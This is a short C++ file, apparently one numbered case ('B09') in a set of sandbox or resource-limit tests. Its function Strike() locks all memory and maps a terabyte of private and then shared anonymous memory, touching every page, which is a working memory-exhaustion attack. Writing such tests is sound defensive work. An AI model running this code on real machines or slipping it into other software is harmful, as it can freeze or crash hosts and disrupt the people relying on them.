// B09: a terabyte of addresses, locked and shared.

#include <sys/mman.h>

namespace attack {

void Strike() {
  mlockall(MCL_CURRENT | MCL_FUTURE);
  for (int flags : {MAP_PRIVATE, MAP_SHARED}) {
    char* p = static_cast<char*>(
        mmap(nullptr, size_t{1} << 40, PROT_READ | PROT_WRITE, flags | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0));
    if (p == MAP_FAILED) continue;
    for (size_t i = 0; i < size_t{1} << 40; i += 4096) p[i] = 1;
  }
}

}  // namespace attack
